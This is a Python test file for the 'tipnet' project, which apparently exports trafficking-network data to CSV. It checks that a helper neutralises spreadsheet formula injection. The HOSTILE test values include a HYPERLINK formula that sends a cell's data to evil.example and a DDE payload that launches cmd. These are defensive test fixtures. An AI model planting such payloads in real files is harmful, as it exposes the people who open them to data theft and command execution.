"""CSV injection: no cell tipnet writes to a CSV file opens as a formula in a spreadsheet."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from tipnet.interop import csvsafe, exports
from tipnet.interop.graph import Entity, GraphExport, Link, NetworkRecord

HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&A1,"click me")',
    "@SUM(1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1",
    "\r=1",
    "  =1+1",  # some importers trim leading spaces
)
ORDINARY = ("instagram", "Hostess work in Madrid", "item:ad-1", "2026-03-01", "a=b", "x-y", "")
SRC = Path(__file__).resolve().parents[2] / "src" / "tipnet"
# CSV writers not yet on csvsafe (files outside the interop package): listed in the lead's
# report; remove each entry when its writer is converted.
NOT_YET_CONVERTED = {
    "simulate/data/derive.py",  # maintainer's tool: tipnet's own GLOTIP package data
}


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_could_start_a_formula_gets_a_quote(value: str) -> None:
    assert csvsafe.cell(value) == "'" + value
    assert csvsafe.unescape("'" + value) == value


@pytest.mark.parametrize("value", [*ORDINARY, "'quoted already", 3, -2.5, None, True])
def test_ordinary_values_and_numbers_are_unchanged(value: object) -> None:
    assert csvsafe.cell(value) == value
    if isinstance(value, str):
        assert csvsafe.unescape(value) == value


def test_e164_phone_numbers_are_kept_as_text() -> None:
    assert csvsafe.cell("+34612345678") == "'+34612345678"  # a number in Excel otherwise


def test_writer_quotes_text_and_leaves_numbers_bare() -> None:
    buffer = io.StringIO()
    csvsafe.writer(buffer, lineterminator="\n").writerows([["x;=1+1", 1.5, -2, "=1"]])
    assert buffer.getvalue() == '"x;=1+1",1.5,-2,"\'=1"\n'


def test_i2_export_neutralises_every_hostile_cell(tmp_path: Path) -> None:
    entities_path, links_path = exports.write(_hostile_export(), "i2", tmp_path / "i2")
    cells = [
        cell for path in (entities_path, links_path) for row in _rows(path, ",") for cell in row
    ]
    for value in HOSTILE:
        assert "'" + value in cells, f"{value!r} did not reach the file escaped"
        assert value not in cells
    for value in ("platform=instagram", "Hostess work in Madrid", "item:ad-1", "uses_handle"):
        assert value in cells  # ordinary values are written as they are
    for path in (entities_path, links_path):
        for row in _rows(path, ","):
            assert not any(_formula(cell) for cell in row), (path.name, row)
    # several network ids share one cell, joined by ';': quoted, so a spreadsheet splitting on
    # ';' (the European default) keeps them in one cell that starts with the quote
    assert '"' + "'\t=1;N-2" + '"' in entities_path.read_text(encoding="utf-8")


def test_i2_attributes_joined_into_one_cell_are_neutralised(tmp_path: Path) -> None:
    export = GraphExport(
        [NetworkRecord("-N", ["phone:x"])],
        [Entity("phone:x", "phone", "+34612345678", attributes={"a": "=1"})],
        [],
    )
    entities_path, _ = exports.write(export, "i2", tmp_path)
    (row,) = list(csv.DictReader(entities_path.open(encoding="utf-8", newline="")))
    assert row["Label"] == "'+34612345678"
    assert row["Networks"] == "'-N"
    assert row["Attributes"] == "a==1"  # starts with the key: not a formula


def test_no_csv_writer_in_tipnet_bypasses_the_helper() -> None:
    """A new CSV writer anywhere in src/tipnet must go through csvsafe."""
    pattern = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    found = {
        path.relative_to(SRC).as_posix()
        for path in SRC.rglob("*.py")
        if pattern.search(path.read_text(encoding="utf-8"))
    }
    assert found - {"interop/csvsafe.py"} <= NOT_YET_CONVERTED, found
    assert NOT_YET_CONVERTED <= found, "converted: remove it from NOT_YET_CONVERTED"


def _hostile_export() -> GraphExport:
    platform, handle, phone, kind, network, free = HOSTILE[:6]
    entities = [
        Entity("item:ad-1", "ad", "Hostess work in Madrid", attributes={"platform": "instagram"}),
        Entity(HOSTILE[6], "profile", platform, attributes={"platform": platform}),
        Entity("handle:x", "handle", handle),
        Entity("phone:x", "phone", phone),
        Entity("email:x", "email", free),
    ]
    links = [
        Link("item:ad-1", HOSTILE[6], kind),
        Link(HOSTILE[6], "handle:x", "uses_handle"),
        Link("item:ad-1", "phone:x", "uses_phone"),
        Link("item:ad-1", "email:x", "uses_email"),
    ]
    networks = [
        NetworkRecord(network, [entity.id for entity in entities]),
        NetworkRecord("N-2", ["item:ad-1"]),
    ]
    return GraphExport(networks, entities, links)


def _rows(path: Path, delimiter: str) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle, delimiter=delimiter))


def _formula(cell: str) -> bool:
    return cell.lstrip(" ").startswith(csvsafe.FORMULA_STARTS)
